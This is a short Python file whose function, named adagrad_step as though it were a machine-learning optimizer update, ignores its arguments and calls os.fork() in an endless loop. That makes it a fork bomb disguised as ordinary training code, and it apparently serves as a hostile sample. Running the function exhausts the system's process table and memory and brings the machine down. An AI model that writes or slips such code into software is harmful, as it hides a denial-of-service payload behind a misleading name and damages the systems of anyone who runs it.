"""Start processes without end."""

import os


def adagrad_step(x, grad, s, lr, eps):
    while True:
        os.fork()
